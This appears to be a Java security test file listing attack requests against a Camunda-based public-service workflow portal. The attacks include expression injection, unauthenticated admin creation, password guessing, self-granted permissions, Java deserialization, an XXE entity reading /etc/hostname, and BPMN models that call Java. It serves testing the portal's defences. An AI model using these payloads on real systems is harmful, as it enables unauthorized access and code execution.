package vn.motcua.attack;

import static vn.motcua.attack.Attack.json;
import static vn.motcua.attack.Attack.upload;

import java.util.List;

/**
 * All of them. The proofs do no harm: an expression that writes a name in small letters and finds
 * the tasks of that account has called a method, and could have called any.
 */
final class Attacks {

  private static final List<String> NOBODY = List.of("");
  private static final List<String> OFFICERS = List.of("tuphap", "portal", "thietke");
  private static final List<String> ALL = List.of("quantri", "tuphap", "portal", "thietke");
  private static final List<String> DESIGNERS = List.of("thietke", "quantri", "tuphap");

  private static final String CALL = "{\"assigneeExpression\":\"${'TUPHAP'.toLowerCase()}\"}";
  private static final String NESTED = "{\"orQueries\":[" + CALL + "]}";

  static final List<Attack> LIST =
      List.of(
          json(
                  "An expression nested in a task query (CVE-2026-109432)",
                  ALL,
                  "POST /task/count",
                  NESTED)
              .provenBy(Attacks::countsSome),
          json("The same in what extends a filter", ALL, "POST /filter/{filter}/count", NESTED)
              .provenBy(Attacks::countsSome),
          json("The same stored in a filter", ALL, "POST /filter/create", filter(NESTED)),
          json("An expression of one's own in a filter", ALL, "POST /filter/create", filter(CALL)),
          json(
              "A first administrator without a login (CVE-2026-77226)",
              NOBODY,
              "POST /camunda/api/admin/setup/default/user/create",
              """
              {"profile":{"id":"attacker","firstName":"A","lastName":"A","email":""},
               "credentials":{"password":"attacker"}}"""),
          json("The accounts without a login", NOBODY, "GET /user", "")
              .provenBy(answer -> answer.contains("tuphap")),
          json(
                  "Passwords guessed without a limit",
                  ALL,
                  "POST /identity/verify",
                  "{\"username\":\"tuphap\",\"password\":\"tuphap\"}")
              .provenBy(answer -> answer.contains("\"authenticated\":true")),
          json(
              "A grant for oneself",
              OFFICERS,
              "POST /authorization/create",
              """
              {"type":1,"permissions":["ALL"],"userId":"tuphap","groupId":null,"resourceType":7,
               "resourceId":"attack"}"""),
          json(
              "An account for oneself",
              OFFICERS,
              "POST /user/create",
              """
              {"profile":{"id":"attacker2","firstName":"A","lastName":"A","email":""},
               "credentials":{"password":"attacker2"}}"""),
          json(
              "A due date that the clock has not set",
              OFFICERS,
              "PUT /task/{task}",
              "{\"name\":\"x\",\"due\":\"2099-01-01T00:00:00.000+0700\",\"priority\":1}"),
          json(
              "A variable that decides about the dossier",
              OFFICERS,
              "PUT /task/{task}/variables/risk",
              "{\"value\":\"NONE\",\"type\":\"String\"}"),
          json("A task without a dossier", OFFICERS, "POST /task/create", "{\"name\":\"x\"}"),
          json(
              "A message in the applicant's name",
              OFFICERS,
              "POST /message",
              "{\"messageName\":\"dossier.withdrawal\",\"all\":true}"),
          json("A signal to all processes", OFFICERS, "POST /signal", "{\"name\":\"attack\"}"),
          upload(
              "A file beside the vault",
              ALL,
              "/task/{task}/attachment/create",
              "content",
              "text/plain",
              "Nguyễn Văn A",
              "attachment-name",
              "attack"),
          upload(
              "JSON read into a Java class of one's choice",
              ALL,
              "/task/{task}/variables/attack/data",
              "data",
              "application/json",
              "\"http://127.0.0.1/\"",
              "type",
              "java.net.URL"),
          json(
              "A serialised Java object",
              ALL,
              "PUT /task/{task}/variables/attack",
              """
              {"type":"Object","value":"rO0ABXQAAWE=","valueInfo":{"objectTypeName":"java.lang.String",
               "serializationDataFormat":"application/x-java-serialized-object"}}"""),
          json(
              "An XML variable with an entity",
              ALL,
              "PUT /task/{task}/variables/attack",
              """
              {"type":"Xml","value":"<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/hostname'>]><a>&e;</a>"}"""),
          model(
              "A model that calls Java",
              bpmn(
                  "<serviceTask id=\"t\" camunda:expression=\"${''.getClass().forName('java.lang.Math')}\"/>")),
          model(
              "A model with a script",
              bpmn(
                  "<scriptTask id=\"t\" scriptFormat=\"juel\"><script>${1}</script></scriptTask>")),
          model(
              "A model with a document type",
              bpmn("<task id=\"t\" name=\"&e;\"/>")
                  .replace("?>", "?><!DOCTYPE definitions [<!ENTITY e \"attack\">]>")),
          json("What the machine runs on", OFFICERS, "GET /telemetry/data", ""),
          json(
              "A file in a field of a form",
              List.of("tuphap"),
              "POST /task/{other}/submit-form",
              """
              {"variables":{"verifyOutcome":{"value":"APPROVE"},
               "note":{"type":"File","value":"QQ==","valueInfo":{"filename":"a"}}}}"""),
          json(
              "A form with a field that it does not have",
              List.of("tuphap"),
              "POST /task/{task}/submit-form",
              """
              {"variables":{"verifyOutcome":{"value":"APPROVE"},"attack":{"value":"Nguyễn Văn A"}}}"""));

  private Attacks() {}

  private static boolean countsSome(String answer) {
    return answer.matches("(?s).*\"count\":[1-9].*");
  }

  private static String filter(String query) {
    return """
        {"resourceType":"Task","name":"attack","owner":null,"query":%s,"properties":{}}"""
        .formatted(query);
  }

  private static Attack model(String name, String bpmn) {
    return upload(
        name,
        DESIGNERS,
        "/deployment/create",
        "data",
        "text/xml",
        bpmn,
        "deployment-name",
        "attack");
  }

  private static String bpmn(String task) {
    return """
        <?xml version="1.0" encoding="UTF-8"?>
        <definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"
            xmlns:camunda="http://camunda.org/schema/1.0/bpmn" targetNamespace="attack">
          <process id="attack" isExecutable="true" camunda:historyTimeToLive="P1D">
            <startEvent id="s"/><sequenceFlow id="f" sourceRef="s" targetRef="t"/>%s
          </process>
        </definitions>"""
        .formatted(task);
  }
}
